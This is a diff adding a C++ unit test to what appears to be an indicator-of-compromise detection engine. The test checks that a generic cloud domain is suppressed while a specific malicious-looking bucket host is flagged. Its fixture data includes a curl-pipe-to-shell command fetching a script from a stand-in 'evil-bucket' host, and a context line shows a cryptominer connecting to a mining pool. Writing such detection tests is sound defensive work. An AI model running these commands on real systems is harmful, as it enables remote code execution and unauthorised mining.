@@ -73,6 +73,20 @@ TEST(IocEngine, PrivateAndWarningListedValuesAreNeverFindings) {
   EXPECT_EQ(r[std::string(kIocRule)][0].title_en.find("8.8.8.8"), std::string::npos);
 }
 
+TEST(IocEngine, WarningListSuppressesGenericNamesNotSpecificOnes) {
+  intel::Indicator generic, bucket;
+  generic.type = bucket.type = intel::IndicatorType::Domain;
+  generic.value = "aliyuncs.com";
+  bucket.value = "evil-bucket.oss-cn-beijing.aliyuncs.com";
+  generic.source = bucket.source = "test feed";
+  auto r = run({ev({{model::Field::CommandLine, "curl https://evil-bucket.oss-cn-beijing.aliyuncs.com/x.sh | sh"}}),
+                ev({{model::Field::QueryName, "aliyuncs.com"}})},
+               {generic, bucket});
+  ASSERT_EQ(r[std::string(kIocRule)].size(), 1u);
+  EXPECT_NE(r[std::string(kIocRule)][0].title_en.find("evil-bucket"), std::string::npos);
+  EXPECT_EQ(r[std::string(kIocRule)][0].description_en.find("domain aliyuncs.com"), std::string::npos);
+}
+
 TEST(IocEngine, PoolsAreInfrastructureNotAFamily) {
   auto r = run({ev({{model::Field::CommandLine, "./x -o stratum+tcp://xmr-eu1.nanopool.org:14444 -u 4abc"}})});
   ASSERT_EQ(r[std::string(kPoolRule)].size(), 1u);
